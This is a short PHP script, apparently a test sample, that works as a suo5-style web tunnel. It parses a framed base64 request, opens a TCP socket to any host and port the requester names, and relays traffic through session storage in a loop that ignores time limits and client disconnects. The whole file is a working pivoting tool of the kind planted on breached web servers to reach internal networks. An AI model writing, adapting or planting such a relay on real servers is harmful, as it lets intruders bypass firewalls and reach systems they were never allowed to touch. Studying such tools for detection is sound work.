<?php
// A socket relay of the suo5 kind, written for the tests: the target host and port arrive inside a
// framed request body, the socket is switched to non-blocking mode and polled between requests.
@set_time_limit(0);
@ignore_user_abort(true);

function read_frame($raw) {
    $out = array();
    $data = base64_decode(strtr($raw, '-_', '+/'));
    $i = 0;
    while ($i + 5 <= strlen($data)) {
        $klen = ord($data[$i]);
        $key = substr($data, $i + 1, $klen);
        $vlen = unpack('N', substr($data, $i + 1 + $klen, 4));
        $out[$key] = substr($data, $i + 5 + $klen, $vlen[1]);
        $i += 5 + $klen + $vlen[1];
    }
    return $out;
}

function slot($id, $value = null) {
    @session_start();
    if ($value !== null) {
        $_SESSION['q_' . $id] = $value;
    }
    $v = isset($_SESSION['q_' . $id]) ? $_SESSION['q_' . $id] : '';
    session_write_close();
    return $v;
}

$frame = read_frame(file_get_contents('php://input'));
$id = isset($frame['i']) ? $frame['i'] : '';
if (isset($frame['a']) && $frame['a'] === 'open') {
    $peer = @fsockopen($frame['h'], intval($frame['p']), $errno, $errstr, 4);
    if (!$peer) {
        exit('E');
    }
    stream_set_blocking($peer, false);
    echo 'K';
    flush();
    while (slot($id . '_live') !== 'n') {
        $in = slot($id . '_up');
        if ($in !== '') {
            slot($id . '_up', '');
            fwrite($peer, $in);
        }
        $got = fread($peer, 8192);
        if ($got !== false && $got !== '') {
            slot($id . '_down', slot($id . '_down') . $got);
        }
        usleep(20000);
    }
    fclose($peer);
} elseif (isset($frame['a']) && $frame['a'] === 'push') {
    slot($id . '_up', slot($id . '_up') . $frame['d']);
    $back = slot($id . '_down');
    slot($id . '_down', '');
    echo $back;
} else {
    slot($id . '_live', 'n');
}
